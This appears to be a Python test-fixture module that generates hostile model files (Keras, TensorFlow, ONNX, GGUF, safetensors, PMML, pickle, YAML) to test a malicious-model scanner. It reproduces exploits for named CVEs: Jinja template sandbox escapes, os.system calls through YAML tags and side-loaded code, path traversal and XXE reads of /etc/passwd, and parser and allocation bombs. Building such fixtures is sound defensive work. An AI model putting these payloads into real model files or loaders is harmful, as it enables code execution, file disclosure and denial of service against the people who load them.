"""Hostile model files, made when they are needed: each a way in which a loader was deceived, or a scanner was.

Were one loaded, it would create the folder `marker`. Every payload does no more than that. Sources are the public
advisories of scanners and loaders; the bytes are put together here.
"""

from __future__ import annotations

import json
import pickle
import struct
import tempfile
from pathlib import Path

from services.inventory.tests.hostile_archives import archive, torch_archive
from services.inventory.tests.hostile_pickles import (
    SAMPLES,
    Sample,
    ask4,
    call,
    command,
    sample,
    system,
)

# -- Keras and TensorFlow

LAMBDA = {
    "class_name": "Lambda",
    "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"},
}


def keras_config(*layers: object) -> dict[str, object]:
    return {"class_name": "Sequential", "module": "keras", "config": {"name": "m", "layers": list(layers)}}


def keras_archive(config: object) -> bytes:
    return archive(
        ("metadata.json", json.dumps({"keras_version": "3.10.0"}).encode()),
        ("config.json", json.dumps(config).encode()),
    )


def h5_of(config: object, *, latest: bool = False, link: bool = False, raw: bool = False) -> bytes:
    import h5py

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.h5"
        with h5py.File(path, "w", libver="latest" if latest else "earliest") as file:
            if config is not None:
                file.attrs["model_config"] = json.dumps(config)
            weights = file.create_group("model_weights").create_group("dense")
            weights.create_dataset("kernel:0", data=[[0.0] * 8] * 8)
            if link:
                weights["bias:0"] = h5py.ExternalLink("/etc/secrets.h5", "/keys")
            if raw:
                weights.create_dataset("raw", (16,), dtype="u1", external=[("/etc/passwd", 0, 16)])
        return path.read_bytes()


@sample("lambda.h5", "a Lambda layer in HDF5")
def _h5_lambda(marker: str) -> bytes:
    return h5_of(keras_config(LAMBDA))


@sample("lambda_latest.h5", "a Lambda layer in HDF5's newer form")
def _h5_lambda_latest(marker: str) -> bytes:
    return h5_of(keras_config({"class_name": "TimeDistributed", "config": {"layer": LAMBDA}}), latest=True)


@sample("external_link.h5", "a link to another file")
def _h5_link(marker: str) -> bytes:
    return h5_of(None, link=True)


@sample("external_data.weights.h5", "a dataset whose bytes are another file's")
def _h5_raw(marker: str) -> bytes:
    return h5_of(None, raw=True)


@sample("lambda.keras", "a Lambda layer")
def _keras_lambda(marker: str) -> bytes:
    return keras_archive(keras_config(LAMBDA))


@sample("module.keras", "loading imports any module (CVE-2025-1550)")
def _keras_module(marker: str) -> bytes:
    entry = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    return keras_archive(
        keras_config({"class_name": "Dense", "module": "keras.layers", "config": {"activation": entry}})
    )


@sample("get_file.keras", "Keras' own functions misused (CVE-2025-8747)")
def _keras_get_file(marker: str) -> bytes:
    entry = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    return keras_archive(keras_config(entry))


@sample("unsafe_switch.keras", "the file switches safe mode off (CVE-2025-9906)")
def _keras_switch(marker: str) -> bytes:
    return keras_archive(
        {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "f",
        }
    )


@sample("torch_wrapper.keras", "a layer that loads a pickle (CVE-2025-49655)")
def _keras_wrapper(marker: str) -> bytes:
    return keras_archive(
        keras_config({"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": "gASV"}})
    )


@sample("vocabulary.keras", "a vocabulary that is a path or an address (CVE-2025-12058)")
def _keras_vocabulary(marker: str) -> bytes:
    return keras_archive(
        keras_config({"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": "/etc/passwd"}})
    )


def field(number: int, content: bytes | int) -> bytes:
    """One field of a protocol buffer."""

    def varint(value: int) -> bytes:
        out = bytearray()
        while value > 0x7F:
            out.append(value & 0x7F | 0x80)
            value >>= 7
        return bytes([*out, value])

    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    return varint(number << 3 | 2) + varint(len(content)) + content


def saved_model(*operators: str, in_function: bool = False) -> bytes:
    nodes = [field(1, f"n{at}".encode()) + field(2, one.encode()) for at, one in enumerate(operators)]
    if in_function:
        graph = field(2, field(1, field(1, field(1, b"f")) + b"".join(field(3, one) for one in nodes)))
    else:
        graph = b"".join(field(1, one) for one in nodes)
    return field(1, 1) + field(2, field(1, field(4, b"serve")) + field(2, graph))


@sample("saved_model.pb", "an operator that reads files")
def _read_file(marker: str) -> bytes:
    return saved_model("Placeholder", "ReadFile", "Identity")


@sample("functions/saved_model.pb", "an operator that writes files, in a function")
def _write_file(marker: str) -> bytes:
    return saved_model("Placeholder", "WriteFile", in_function=True)


@sample("python/saved_model.pb", "an operator that calls Python")
def _py_func(marker: str) -> bytes:
    return saved_model("EagerPyFunc")


@sample("keras_metadata.pb", "a Lambda layer beside a SavedModel")
def _keras_metadata(marker: str) -> bytes:
    return field(
        1,
        field(1, 1) + field(2, b"root.layer-1") + field(3, b"_tf_keras_layer") + field(4, json.dumps(LAMBDA).encode()),
    )


# -- other formats


def onnx(location: str | None = None, domain: str = "", operator: str = "MatMul") -> bytes:
    tensor = field(1, 4) + field(2, 1) + field(8, b"w")
    if location is None:
        tensor += field(9, b"\0" * 16)
    else:
        tensor += field(13, field(1, b"location") + field(2, location.encode())) + field(14, 1)
    node = (
        field(1, b"x") + field(2, b"y") + field(4, operator.encode()) + (field(7, domain.encode()) if domain else b"")
    )
    graph = field(1, node) + field(2, b"g") + field(5, tensor)
    return field(1, 8) + field(2, b"pytorch") + field(7, graph) + field(8, field(1, domain.encode()) + field(2, 17))


@sample("external.onnx", "weights from outside of the folder (CVE-2024-27318)")
def _onnx_external(marker: str) -> bytes:
    return onnx("../../../../etc/passwd")


@sample("operators.onnx", "operators that a library of their own runs")
def _onnx_domain(marker: str) -> bytes:
    return onnx(domain="com.evil.ops", operator="Run")


@sample("python.onnx", "an operator that calls Python")
def _onnx_python(marker: str) -> bytes:
    return onnx(domain="ai.onnx.contrib", operator="PyOp")


def gguf_text(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(**keys: str) -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(keys))
    for key, value in keys.items():
        head += gguf_text(key.replace("__", ".")) + struct.pack("<I", 8) + gguf_text(value)
    head += gguf_text("token_embd.weight") + struct.pack("<IQIQ", 1, 8, 0, 0)
    return head + bytes(-len(head) % 32) + bytes(32)


@sample("template.gguf", "a chat template that leaves the sandbox (CVE-2024-34359)")
def _gguf_template(marker: str) -> bytes:
    return gguf(
        general__architecture="llama",
        tokenizer__chat_template="{% for x in ().__class__.__base__.__subclasses__() %}{{ x.__init__ }}{% endfor %}",
    )


@sample("template_hidden.gguf", "the same with names that are put together")
def _gguf_template_hidden(marker: str) -> bytes:
    return gguf(
        tokenizer__chat_template__tool_use="{{ (messages|attr('_' ~ '_class_' ~ '_'))|attr('\\x5f\\x5fmro\\x5f\\x5f') }}"
    )


@sample("lengths.gguf", "lengths that overflow a parser")
def _gguf_lengths(marker: str) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + struct.pack("<Q", (1 << 64) - 8) + b"x" * 64


@sample("counts.gguf", "more tensors than memory")
def _gguf_counts(marker: str) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60) + b"\0" * 64


@sample("zip_behind.gguf", "an archive behind a model")
def _gguf_zip(marker: str) -> bytes:
    return gguf(general__architecture="llama") + torch_archive(system(marker))


def safetensors(header: object, data: bytes = b"", size: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if size is None else size) + raw + data


@sample("overlapping.safetensors", "tensors that overlap")
def _overlap(marker: str) -> bytes:
    entry = {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}
    return safetensors({"a": entry, "b": entry}, bytes(8))


@sample("outside.safetensors", "a tensor outside of the file")
def _outside(marker: str) -> bytes:
    return safetensors({"a": {"dtype": "U8", "shape": [1 << 40], "data_offsets": [0, 1 << 40]}}, bytes(8))


@sample("doubled.safetensors", "a name that stands twice: parsers differ in which they take")
def _doubled(marker: str) -> bytes:
    entry = '{"dtype":"U8","shape":[8],"data_offsets":[0,8]}'
    return safetensors(f'{{"a":{entry},"a":{entry}}}'.encode(), bytes(8))


@sample("hidden.safetensors", "a pickle between the tensors and behind them")
def _hidden_data(marker: str) -> bytes:
    return safetensors({"a": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}}, bytes(8) + system(marker))


@sample("header_bomb.safetensors", "a header of exabytes")
def _header_bomb(marker: str) -> bytes:
    return safetensors(b"{}", size=1 << 62)


@sample("external_entity.pmml", "an entity that is read from a file")
def _xxe(marker: str) -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>'


@sample("laughs.pmml", "entities of entities")
def _laughs(marker: str) -> bytes:
    rows = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY l0 "ha">{rows}]><PMML version="4.4">&l11;</PMML>'.encode()


@sample("torchscript.pt", "compiled code that writes files (CVE-2025-32434)")
def _torchscript(marker: str) -> bytes:
    code = b'class M(Module):\n  def forward(self, x):\n    _0 = ops.aten.save(x, "/tmp/x")\n    return x\n'
    return archive(
        ("m/data.pkl", pickle.dumps({})), ("m/code/__torch__.py", code), ("m/constants.pkl", pickle.dumps(()))
    )


@sample("operator.skops", "a loader that calls what the file names (CVE-2025-54412)")
def _skops(marker: str) -> bytes:
    schema = {
        "__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
        "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []},
        "protocol": 2, "_skops_version": "0.11",
    }  # fmt: skip
    return archive(("schema.json", json.dumps(schema).encode()))


@sample("config.json", "a configuration that has code beside it loaded")
def _auto_map(marker: str) -> bytes:
    return json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_evil.Evil"}}).encode()


@sample("tokenizer_config.json", "a chat template that leaves the sandbox")
def _tokenizer(marker: str) -> bytes:
    return json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.system('x') }}"}).encode()


@sample("modeling_evil.py", "the code beside it")
def _code(marker: str) -> bytes:
    return f"import os\nos.system({command(marker)!r})\n".encode()


@sample("settings.yaml", "a tag that calls what it names")
def _yaml(marker: str) -> bytes:
    return f"x: !!python/object/apply:os.system ['{command(marker)}']\n".encode()


@sample("custom_layer.mlmodel", "a Core ML layer that the application's code runs")
def _coreml(marker: str) -> bytes:
    return (
        field(1, 4)
        + field(2, field(100, b"x"))
        + field(500, field(1, field(1, b"layer") + field(500, field(10, b"Evil"))))
    )


@sample("model.llamafile", "a program with a model inside")
def _llamafile(marker: str) -> bytes:
    return b"MZqFpD='\n" + bytes(200) + archive(("model.gguf", gguf(general__architecture="llama")))


# -- bombs


@sample("hash_bomb.pkl", "a key of tuples of tuples: hashing it takes two to the sixtieth steps")
def _hash_bomb(marker: str) -> bytes:
    return b"\x80\x04}" + b"K\x01" + b"2\x86" * 60 + b"K\x01s."


@sample("allocation.pkl", "a harmless type that is asked for a terabyte")
def _allocation(marker: str) -> bytes:
    return call("builtins", "bytearray", b"\x8a\x06" + (1 << 40).to_bytes(6, "little"))


@sample("long_length.pkl", "a length of exabytes")
def _long_length(marker: str) -> bytes:
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"x" * 100


@sample("memo_bomb.pkl", "millions of memo entries")
def _memo_bomb(marker: str) -> bytes:
    return (
        b"\x80\x04N"
        + b"".join(b"r" + struct.pack("<I", at * 7) for at in range(1_200_000))
        + ask4("os", "system")
        + b"."
    )


@sample("stack_bomb.pkl", "millions of values and no end")
def _stack_bomb(marker: str) -> bytes:
    return b"\x80\x04" + b"(" * 3_000_000


HOSTILE: tuple[Sample, ...] = tuple(SAMPLES)
